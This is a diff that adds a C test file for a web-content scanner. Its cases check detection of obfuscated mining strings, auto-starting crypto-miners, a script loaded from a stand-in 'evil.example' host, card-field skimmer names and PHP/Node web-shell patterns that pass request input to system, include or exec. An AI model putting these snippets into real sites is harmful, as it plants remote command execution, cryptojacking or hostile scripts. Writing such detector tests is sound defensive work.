@@ -1,0 +1,124 @@
+// SPDX-License-Identifier: Apache-2.0
+/* Pages and scripts written for the test; rules/behaviour/web.cases.yaml has more. DAVY TEST IMITATION. */
+#include "inspect/code_read.h"
+#include "inspect/test-look.h"
+
+static struct facts facts;
+
+static void look(const char *path, const char *text)
+{
+    static const char *const only[] = {"web", "unwrap", "wasm", NULL};
+    look_with(&(struct inspect_options){.only = only}, path, str_from(text), &facts);
+}
+
+static bool does(const char *word)
+{
+    return facts_list(&facts, F_WEB_DOES, word);
+}
+
+static bool lists(enum field_id id, const char *want)
+{
+    return facts_list(&facts, id, want);
+}
+
+TEST(literals_are_read_as_they_mean)
+{
+    static const struct {
+        enum code_language language;
+        const char *code, *want;
+    } ROWS[] = {
+        {CODE_JAVASCRIPT, "'a' + \"b\" + 'c'", "abc"},
+        {CODE_JAVASCRIPT, "\"\\x61\\u0062\\u{63}\\144\"", "abcd"},
+        {CODE_JAVASCRIPT, "/* 'no' */ // 'no'\n 'yes'", "yes"},
+        {CODE_PHP, "'a' . \"\\x62\" # 'no'", "ab"},
+        {CODE_PHP, "'\\x62'", "x62"},
+        {CODE_ASP, "\"a\" & \"b\" ' \"no\"", "ab"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(ROWS); i++) {
+        struct code_reader r;
+        struct token t;
+        code_begin(&r, str_from(ROWS[i].code), ROWS[i].language);
+        CHECK(code_next(&r, &t));
+        CHECK_INT(t.kind, TOKEN_STRING);
+        CHECK_STR(t.text, ROWS[i].want);
+        code_done(&r);
+    }
+}
+
+TEST(patterns_are_no_divisions)
+{
+    struct code_reader r;
+    struct token t;
+    unsigned patterns = 0;
+    code_begin(&r, STR("a / b / c; x = /4[0-9]{12}'/; return /[/]'/.test(y) / 2; (a) / 'x' / 3"), CODE_JAVASCRIPT);
+    while (code_next(&r, &t))
+        patterns += t.kind == TOKEN_REGEX;
+    CHECK_INT(patterns, 2);
+    code_done(&r);
+}
+
+TEST(numbers_that_are_a_module_or_a_word)
+{
+    look("/srv/a.js", "var m = new Uint8Array([0x00, 97, 115, 109, 1, 0, 0, 0]); f(String.fromCharCode(109,105,110,105,110,103,46,115,117,98,109,105,116));");
+    CHECK(lists(F_UNWRAP_CHAINS, "numbers"));
+    CHECK(does("mining-protocol"));
+    look("/srv/a.js", "var t = [0, 97, 115, 108, 1, 0, 0, 0, 2];");
+    CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
+}
+
+TEST(a_miner_waits_for_a_click)
+{
+    look("/srv/a.html", "<script>b.addEventListener('click', function () { miner.start(); });</script>");
+    CHECK(!does("starts-on-load"));
+    look("/srv/a.html", "<script>if (confirm('Mine?') && miner.start()) x();</script>");
+    CHECK(does("starts-on-load"));
+    look("/srv/a.html", "<script>b.addEventListener('load', function () { miner.start(); });</script>");
+    CHECK(does("starts-on-load"));
+    look("/srv/a.html", "<div class='coinhive-miner' data-key='x'></div>");
+    CHECK(lists(F_WEB_CONSENT, "start-button"));
+    look("/srv/a.html", "<div class='coinhive-miner' data-autostart='true'></div>");
+    CHECK(!facts_has(&facts, F_WEB_CONSENT));
+}
+
+TEST(written_pages_are_pages)
+{
+    look("/srv/a.js", "document.write('<script src=\"https://cdn.evil.example/x.js\"></scr' + 'ipt>');");
+    CHECK(lists(F_WEB_SCRIPTS, "cdn.evil.example"));
+    CHECK(lists(F_WEB_SCRIPTS, "evil.example"));
+}
+
+TEST(names_of_fields_of_cards)
+{
+    look("/srv/a.js", "x = ['payment[cc_number]', 'card-cvc']");
+    CHECK(does("card-fields"));
+    look("/srv/a.js", "discardNumber(succNode, cvc, cvv, 'cvc')");
+    CHECK(!does("card-fields"));
+}
+
+TEST(what_a_visitor_sends)
+{
+    look("/srv/a.php", "<?php $x = $_GET['x']; $y = $x; if (1) { system($y); }");
+    CHECK(lists(F_WEB_RUNS_REQUEST, "system"));
+    look("/srv/a.php", "<?php $x = (int)$_GET['x']; system('ls'); function exec($a) {} $pdo->exec($_POST['q']); Shell::exec($_POST['q']);");
+    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
+    look("/srv/a.php", "<?php include $_GET['page'];");
+    CHECK(lists(F_WEB_RUNS_REQUEST, "include"));
+    look("/srv/a.php", "<?php $h = array('a' => 'b'); $h[$_GET['do']]();");
+    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
+    look("/srv/a.js", "app.get('/', (req, res) => require('child_process').exec(req.query.c))");
+    CHECK(lists(F_WEB_RUNS_REQUEST, "exec"));
+    look("/srv/a.js", "/x/.exec(location.search); new Map().query; function f(req) { return req.query.c }");
+    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
+}
+
+TEST(deep_and_broken_code_ends)
+{
+    _cleanup_(strbuf_done) struct strbuf b = {};
+    strbuf_pad(&b, '(', 100000);
+    strbuf_pad(&b, '[', 100000);
+    strbuf_adds(&b, "<script><script>'<script>\\'<script>");
+    look("/srv/a.js", b.p);
+    look("/srv/a.html", b.p);
+    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "html");
+    facts_done(&facts);
+}
